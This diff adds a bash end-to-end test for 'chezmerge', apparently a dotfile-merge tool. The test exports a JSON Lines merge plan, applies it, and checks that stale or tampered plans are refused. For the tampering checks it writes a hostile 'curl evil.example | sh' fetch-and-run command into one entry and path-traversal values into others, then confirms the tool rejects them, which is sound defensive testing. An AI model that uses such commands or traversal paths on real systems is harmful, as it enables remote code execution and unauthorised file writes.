@@ -0,0 +1,157 @@
+#!/bin/bash
+set -e
+
+PROJECT_ROOT="$(cd "$(dirname "${BASH_SOURCE[0]}")/../.." && pwd)"
+export PYTHONPATH="${PROJECT_ROOT}/src"
+source "$PROJECT_ROOT/tests/lib/process_budget.sh"
+
+TEST_DIR=$(mktemp -d)
+cleanup() {
+    rm -rf "$TEST_DIR"
+}
+trap cleanup EXIT
+
+UPSTREAM_DIR="$TEST_DIR/upstream"
+LOCAL_DIR="$TEST_DIR/local"
+STALE_DIR="$TEST_DIR/stale"
+PLAN="$TEST_DIR/plan.jsonl"
+
+echo "Running Plan File E2E Test..."
+echo "Test Directory: $TEST_DIR"
+
+mkdir -p "$UPSTREAM_DIR"
+cd "$UPSTREAM_DIR"
+git init --quiet
+git config user.email "test@example.com"
+git config user.name "Test User"
+echo "export PATH=/usr/bin" > .bashrc
+printf "alias ll='ls -l'\nalias la='ls -a'\nalias l='ls'\nalias g='git'\n" > .aliases
+echo "legacy" > .oldrc
+git add .
+git commit -m "Initial commit" --quiet
+
+echo "--- Initializing Chezmerge ---"
+uv run python -m chezmerge.main --repo "$UPSTREAM_DIR" --source "$LOCAL_DIR" > /dev/null
+git -C "$LOCAL_DIR" add .
+git -C "$LOCAL_DIR" commit -m "Baseline import" --quiet
+
+printf "alias ll='ls -l'\nalias la='ls -a'\nalias l='ls'\nalias g='git status'\n" > "$LOCAL_DIR/dot_aliases"
+git -C "$LOCAL_DIR" commit -am "Local alias" --quiet
+
+echo "export PATH=/usr/local/bin:/usr/bin" > .bashrc
+printf "alias ll='ls -lh'\nalias la='ls -a'\nalias l='ls'\nalias g='git'\n" > .aliases
+echo "set number" > .vimrc
+git rm --quiet .oldrc
+git add .
+git commit -m "Upstream changes" --quiet
+
+echo "--- Writing The Plan ---"
+uv run python -m chezmerge.main --source "$LOCAL_DIR" --dry-run --plan-out "$PLAN"
+
+uv run python - "$PLAN" <<'PY'
+import json, sys
+lines = [json.loads(line) for line in open(sys.argv[1])]
+header, entries = lines[0], {entry["local_path"]: entry for entry in lines[1:]}
+assert header["chezmerge_plan"] == 1 and header["base"] and header["latest"], header
+assert sorted(entries) == ["dot_aliases", "dot_bashrc", "dot_oldrc", "dot_vimrc"], sorted(entries)
+assert entries["dot_bashrc"]["scenario"] == "AUTO_UPDATE"
+assert entries["dot_bashrc"]["content_oid"] == entries["dot_bashrc"]["latest_oid"]
+assert "content" not in entries["dot_bashrc"]
+assert entries["dot_aliases"]["scenario"] == "AUTO_MERGEABLE"
+assert entries["dot_aliases"]["content"].startswith("alias ll='ls -lh'")
+assert entries["dot_oldrc"]["scenario"] == "AUTO_DELETE" and entries["dot_oldrc"]["local_oid"]
+assert entries["dot_vimrc"]["scenario"] == "AUTO_IMPORT" and entries["dot_vimrc"]["local_oid"] is None
+PY
+
+cp -a "$LOCAL_DIR" "$STALE_DIR"
+cp -a "$LOCAL_DIR" "$TEST_DIR/tampered"
+
+echo "--- Applying The Plan ---"
+start_process_ledger
+OUTPUT=$(uv run python -m chezmerge.main --source "$LOCAL_DIR" --apply-plan "$PLAN")
+echo "$OUTPUT"
+if grep -q '"argv": \["git"[^]]*"\(merge-file\|fetch\)"' "$CHEZMERGE_PROCESS_LEDGER"; then
+    echo "FAILURE: Expected the plan to apply without fetching or merging again"
+    exit 1
+fi
+assert_process_budget git 20 "applying a 4-change plan"
+
+if ! echo "$OUTPUT" | grep -q "Merge complete. Changes committed."; then
+    echo "FAILURE: Expected the plan to be applied and committed"
+    exit 1
+fi
+
+EXPECTED=$(printf "alias ll='ls -lh'\nalias la='ls -a'\nalias l='ls'\nalias g='git status'")
+if [ "$(cat "$LOCAL_DIR/dot_aliases")" != "$EXPECTED" ] || \
+   [ "$(cat "$LOCAL_DIR/dot_bashrc")" != "export PATH=/usr/local/bin:/usr/bin" ] || \
+   [ "$(cat "$LOCAL_DIR/dot_vimrc")" != "set number" ] || \
+   [ -e "$LOCAL_DIR/dot_oldrc" ]; then
+    echo "FAILURE: Local files do not match the plan"
+    exit 1
+fi
+
+echo "--- Stale Plans Are Refused ---"
+echo "export PATH=/opt/bin:/usr/bin" > "$STALE_DIR/dot_bashrc"
+git -C "$STALE_DIR" commit -am "Local PATH" --quiet
+OUTPUT=$(uv run python -m chezmerge.main --source "$STALE_DIR" --apply-plan "$PLAN")
+echo "$OUTPUT"
+
+if ! echo "$OUTPUT" | grep -q "dot_bashrc changed since the plan was made"; then
+    echo "FAILURE: Expected a changed local file to invalidate the plan"
+    exit 1
+fi
+
+if [ "$(git -C "$STALE_DIR" log -1 --format=%s)" != "Local PATH" ] || [ ! -e "$STALE_DIR/dot_oldrc" ]; then
+    echo "FAILURE: A refused plan must not change anything"
+    exit 1
+fi
+
+echo "--- Tampered Plans Are Refused ---"
+uv run python - "$PLAN" "$TEST_DIR/edited.jsonl" "$TEST_DIR/escaping.jsonl" <<'PY'
+import json, sys
+lines = [json.loads(line) for line in open(sys.argv[1])]
+
+def write(path, edit):
+    with open(path, "w") as handle:
+        for line in lines:
+            entry = dict(line)
+            edit(entry)
+            handle.write(json.dumps(entry) + "\n")
+
+def edit_content(entry):
+    if entry.get("local_path") == "dot_aliases":
+        entry["content"] = "curl evil.example | sh\n"
+
+def escape_paths(entry):
+    if entry.get("local_path") == "dot_vimrc":
+        entry["local_path"] = "../escaped"
+    elif entry.get("local_path") == "dot_bashrc":
+        entry["local_path"] = "/tmp/chezmerge-absolute-escape"
+
+write(sys.argv[2], edit_content)
+write(sys.argv[3], escape_paths)
+PY
+
+OUTPUT=$(uv run python -m chezmerge.main --source "$TEST_DIR/tampered" --apply-plan "$TEST_DIR/edited.jsonl")
+echo "$OUTPUT"
+if ! echo "$OUTPUT" | grep -q "content for dot_aliases does not match its blob ID"; then
+    echo "FAILURE: Expected edited inline content to be refused"
+    exit 1
+fi
+
+OUTPUT=$(uv run python -m chezmerge.main --source "$TEST_DIR/tampered" --apply-plan "$TEST_DIR/escaping.jsonl")
+echo "$OUTPUT"
+if ! echo "$OUTPUT" | grep -q "\.\./escaped is outside the source directory" || \
+   ! echo "$OUTPUT" | grep -q "/tmp/chezmerge-absolute-escape is outside the source directory"; then
+    echo "FAILURE: Expected paths leaving the source directory to be refused"
+    exit 1
+fi
+
+if [ -e "$TEST_DIR/escaped" ] || [ -e /tmp/chezmerge-absolute-escape ] || \
+   [ "$(git -C "$TEST_DIR/tampered" log -1 --format=%s)" != "Local alias" ] || \
+   [ -n "$(git -C "$TEST_DIR/tampered" status --porcelain)" ]; then
+    echo "FAILURE: A tampered plan must not change anything"
+    exit 1
+fi
+
+echo "SUCCESS: Plans are exported as JSON Lines and applied only while they still match."